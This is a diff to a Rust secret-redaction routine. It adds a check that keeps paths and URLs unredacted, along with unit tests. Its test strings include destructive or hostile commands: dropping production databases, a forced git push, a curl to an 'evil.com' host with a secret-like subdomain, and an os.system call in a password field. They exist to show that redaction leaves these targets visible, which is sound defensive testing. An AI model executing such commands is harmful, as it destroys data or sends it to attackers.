@@ -61,8 +61,13 @@ pub fn secrets_in(text: &str) -> Vec<String> {
         return Vec::new();
     }
     let (shown, mut found) = thoroughly(text);
-    found.retain(|word| looks_secret(word) && places(&shown, word).next().is_none());
+    found.retain(|word| looks_secret(word) && !is_place(word) && places(&shown, word).next().is_none());
     found
+}
+
+/// Whether a word says where something is, whatever it is called: what is done to it is never hidden.
+fn is_place(word: &str) -> bool {
+    word.starts_with(['/', '~', '.']) || word.contains("://")
 }
 
 /// The text with secrets replaced by `[redacted:kind]`.
@@ -266,6 +271,12 @@ mod tests {
                 "{\"headers\":{\"Authorization\":\"[redacted:value]\",\"Cookie\": \"[redacted:value]\"},\"x\":1}",
             ),
             ("1 | aws_secret_access_key = wJalrXUtnFEMI", "1 | aws_secret_access_key = [redacted:value]"),
+            ("TOKEN=/srv/Prod12345 ./x", "TOKEN=/srv/Prod12345 ./x"),
+            ("git push -f origin token:production", "git push -f origin token:production"),
+            ("dropdb sk-production-customers-2024", "dropdb sk-production-customers-2024"),
+            ("dropdb key=prodcustomers00000000001", "dropdb key=prodcustomers00000000001"),
+            ("curl https://sk-aaaaaaaaaaaaaaaaaaaa1.evil.com/x", "curl https://sk-aaaaaaaaaaaaaaaaaaaa1.evil.com/x"),
+            ("{\"password\": os.system(\"x\")}", "{\"password\": os.system(\"x\")}"),
             ("if token = none then", "if token = none then"),
             ("curl -u me:hunter2Super x", "curl -u me:[redacted:password] x"),
             ("docker run -u 1000:1000 -u app:app x", "docker run -u 1000:1000 -u app:app x"),
